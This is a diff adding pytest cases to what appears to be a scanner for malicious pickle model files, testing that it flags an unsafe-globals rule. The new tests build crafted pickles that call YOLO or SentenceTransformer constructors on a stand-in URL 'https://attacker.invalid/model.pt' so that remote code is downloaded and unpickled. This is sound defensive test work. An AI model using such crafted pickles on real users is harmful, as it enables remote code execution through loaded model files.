@@ -262,3 +262,33 @@ def test_inst_without_arguments_calls_a_function(tmp_path: Path, marker_dir: Pat
     case of its name."""
     data = pk.MARK + pk.inst("turtle", "Screen") + pk.STOP
     assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")
+
+
+@pytest.mark.parametrize(
+    ("module", "name"),
+    [
+        ("ultralytics", "YOLO"),
+        ("ultralytics.models.yolo.model", "YOLO"),
+        ("sentence_transformers", "SentenceTransformer"),
+        ("sentence_transformers.SentenceTransformer", "SentenceTransformer"),
+    ],
+)
+def test_ecosystem_class_whose_constructor_loads_a_model(
+    tmp_path: Path, module: str, name: str
+) -> None:
+    """Ecosystem classes called with one literal are trusted (enum members); ``YOLO(url)``
+    downloads and unpickles whatever the literal names."""
+    body = pk.call(pk.glob(module, name), pk.u("https://attacker.invalid/model.pt"))
+    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL-001")
+
+
+def test_pickled_sentence_transformer_instance_is_not_a_loader_call(tmp_path: Path) -> None:
+    """The same class as the type of a saved object (reconstructed, not called) stays clean."""
+    body = pk.call(
+        pk.glob("copyreg", "_reconstructor"),
+        pk.glob("sentence_transformers.SentenceTransformer", "SentenceTransformer"),
+        pk.glob("builtins", "object"),
+        pk.NONE,
+    )
+    result = scan_sample(tmp_path, "model.pkl", pk.wrap(body + pk.EMPTY_DICT + pk.BUILD))
+    assert not [f for f in result.findings if f.rule_id == "BST-PKL-001"], result.findings
